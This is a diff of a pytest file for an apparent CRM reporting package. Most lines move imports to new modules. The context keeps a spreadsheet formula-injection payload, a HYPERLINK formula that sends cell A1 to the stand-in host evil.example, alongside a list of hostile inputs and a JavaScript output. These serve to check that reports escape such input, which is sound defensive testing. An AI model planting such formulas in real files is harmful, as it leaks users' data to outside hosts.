@@ -16,8 +16,8 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from crmlab import notebook as nb
-from crmlab.report_html import CSP, history_page, index_page, notice_page, page
+from crmlab.report import notebook as nb
+from crmlab.report.html import CSP, history_page, index_page, notice_page, page
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 HOSTILE = [
@@ -166,7 +166,7 @@ def test_escaped_styler(shown):
 
 
 def test_run_info_and_cards(shown):
-    from crmlab.display import Card
+    from crmlab.present.cards import Card
 
     nb.run_info({"orders": "/x/" + HOSTILE_FILE, HOSTILE[0]: HOSTILE[1], "currency": HOSTILE[3]}, [])
     card = Card(HOSTILE[0], HOSTILE[1], HOSTILE[2], pd.DataFrame({HOSTILE[3]: HOSTILE[4:6]}, index=HOSTILE[6:8]),
@@ -194,7 +194,7 @@ def test_report_template_renders_no_script(tmp_path):
     import nbformat
     from nbformat.v4 import new_code_cell, new_notebook, new_output
 
-    from crmlab.report_html import Nav, to_html
+    from crmlab.report.html import Nav, to_html
 
     outs = [new_output("display_data", {"text/markdown": "\n".join(f"- {s}" for s in HOSTILE)}),
             new_output("display_data", {"application/javascript": "alert('js')", "text/plain": "js"}),
@@ -257,7 +257,7 @@ def _hostile_store(src: Path, dst: Path) -> tuple[Path, Path, str]:
 
 @pytest.fixture(scope="module")
 def hostile_run(small_store, tmp_path_factory):
-    from crmlab.report import run_reports
+    from crmlab.report.runner import run_reports
 
     root = tmp_path_factory.mktemp("hostile")
     orders, sends, columns = _hostile_store(small_store, root / "store")
